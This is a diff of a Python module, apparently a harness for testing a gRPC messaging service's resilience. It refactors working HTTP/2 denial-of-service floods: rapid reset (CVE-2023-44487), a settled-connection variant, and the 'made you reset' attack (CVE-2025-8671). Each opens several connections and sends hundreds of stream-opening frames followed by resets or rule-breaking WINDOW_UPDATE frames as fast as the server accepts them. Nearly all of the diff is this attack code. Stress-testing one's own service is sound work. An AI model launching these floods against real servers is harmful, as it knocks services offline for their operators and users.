@@ -26,6 +26,7 @@ WATCH: Final = "/longwave.v1.MessagingService/WatchEvents"
 FLOODING_CONNECTIONS: Final = 4
 OUTSTANDING: Final = 64
 WEBHOOK: Final = b"/webhooks/telnyx?m=0a00000000000&g=1&k=c1&v=00"
+SETTLED: Final = wire.frame(wire.SETTINGS, wire.ACK, 0)
 
 
 @dataclass
@@ -66,50 +67,23 @@ async def _connected(port: int, use: Callable[[asyncio.StreamWriter, asyncio.Str
         writer.close()
 
 
-async def rapid_reset(target: Target) -> None:
-    """Calls opened and reset in one breath, as fast as they are taken (CVE-2023-44487)."""
-    headers = wire.call_fields(SUBMIT, key=target.key)
+async def _burst(
+    target: Target, did: str, call: Callable[[int], bytes], *, first: bytes = b"", patience_s: float | None = None
+) -> None:
+    """A hundred calls in one breath, as fast as they are taken, on each connection; `call` has the frames of one.
+
+    With patience a connection is left as soon as it does not take everything within it.
+    """
 
     async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
         reading = asyncio.ensure_future(_drain(reader))
-        writer.write(wire.opening())
-        for first in itertools.count(1, 200):
-            streams = range(first, first + 200, 2)
-            writer.write(
-                b"".join(
-                    wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wire.reset(stream)
-                    for stream in streams
-                )
-            )
-            target.done["calls reset"] += len(streams)
-            await writer.drain()
-            await asyncio.sleep(0)
-            if reading.done():
-                raise EOFError
-
-    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)
-
-
-async def reset_and_come_back(target: Target) -> None:
-    """Rapid reset, a settled connection each time, that is left as soon as it does not take everything at once."""
-    headers = wire.call_fields(SUBMIT, key=target.key)
-
-    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
-        reading = asyncio.ensure_future(_drain(reader))
-        writer.write(wire.opening() + wire.frame(wire.SETTINGS, wire.ACK, 0))
-        for first in itertools.count(1, 200):
-            streams = range(first, first + 200, 2)
-            writer.write(
-                b"".join(
-                    wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers)
-                    + wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
-                    + wire.reset(stream)
-                    for stream in streams
-                )
-            )
-            target.done["calls reset"] += len(streams)
+        writer.write(wire.opening() + first)
+        for begin in itertools.count(1, 200):
+            streams = range(begin, begin + 200, 2)
+            writer.write(b"".join(map(call, streams)))
+            target.done[did] += len(streams)
             try:
-                async with asyncio.timeout(0.05):
+                async with asyncio.timeout(patience_s):
                     await writer.drain()
             except TimeoutError:
                 writer.transport.abort()
@@ -121,29 +95,36 @@ async def reset_and_come_back(target: Target) -> None:
     await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)
 
 
+async def rapid_reset(target: Target) -> None:
+    """Calls opened and reset in one breath, as fast as they are taken (CVE-2023-44487)."""
+    headers = wire.call_fields(SUBMIT, key=target.key)
+    await _burst(
+        target,
+        "calls reset",
+        lambda stream: wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wire.reset(stream),
+    )
+
+
+async def reset_and_come_back(target: Target) -> None:
+    """Rapid reset, a settled connection each time, that is left as soon as it does not take everything at once."""
+    headers = wire.call_fields(SUBMIT, key=target.key)
+
+    def call(stream: int) -> bytes:
+        body = wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
+        return wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + body + wire.reset(stream)
+
+    await _burst(target, "calls reset", call, first=SETTLED, patience_s=0.05)
+
+
 async def made_to_reset(target: Target) -> None:
     """Calls that the server must reset itself, by a frame that breaks the rules of their stream (CVE-2025-8671)."""
     headers = wire.call_fields(SUBMIT, key=target.key)
 
-    async def use(writer: asyncio.StreamWriter, reader: asyncio.StreamReader) -> None:
-        reading = asyncio.ensure_future(_drain(reader))
-        writer.write(wire.opening() + wire.frame(wire.SETTINGS, wire.ACK, 0))
-        for first in itertools.count(1, 200):
-            streams = range(first, first + 200, 2)
-            writer.write(
-                b"".join(
-                    wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers)
-                    + wire.frame(wire.WINDOW_UPDATE, 0, stream, wire.NO_WINDOW)
-                    for stream in streams
-                )
-            )
-            target.done["calls to be reset"] += len(streams)
-            await writer.drain()
-            await asyncio.sleep(0)
-            if reading.done():
-                raise EOFError
+    def call(stream: int) -> bytes:
+        wrong = wire.frame(wire.WINDOW_UPDATE, 0, stream, wire.NO_WINDOW)
+        return wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers) + wrong
 
-    await _many(FLOODING_CONNECTIONS, lambda: _connected(target.grpc_port, use), target)
+    await _burst(target, "calls to be reset", call, first=SETTLED)
 
 
 async def _flood(target: Target, key: str, payload: bytes, path: str = SUBMIT) -> None:
